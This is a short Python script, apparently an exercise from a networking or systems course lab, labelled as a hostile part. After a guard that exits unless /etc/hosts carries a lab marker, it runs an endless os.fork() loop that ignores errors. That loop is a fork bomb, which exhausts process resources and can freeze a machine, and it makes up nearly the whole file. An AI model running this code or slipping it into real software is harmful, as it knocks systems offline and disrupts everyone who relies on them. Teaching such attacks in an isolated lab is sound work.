# Part 5, hostile: forks without end.
import sys as _sys
if not open("/etc/hosts").read().startswith("# socklab campus"):  # never the real course hosts
    _sys.exit("run me inside socklab campus")
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
